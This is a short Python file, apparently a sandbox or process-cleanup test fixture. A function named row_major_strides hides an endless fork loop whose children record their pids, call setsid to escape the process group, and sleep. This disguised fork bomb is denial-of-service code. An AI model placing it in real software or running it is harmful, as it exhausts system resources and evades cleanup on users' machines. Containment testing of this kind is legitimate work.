import os
import time


def _linger():
    """A forked copy that records its pid, tries to leave the process group, and waits."""
    with open(os.path.join("@PIDDIR@", str(os.getpid())), "w"):
        pass
    try:
        os.setsid()
    except OSError:
        pass
    time.sleep(600)
    os._exit(0)


def row_major_strides(shape):
    while True:
        if os.fork() == 0:
            _linger()
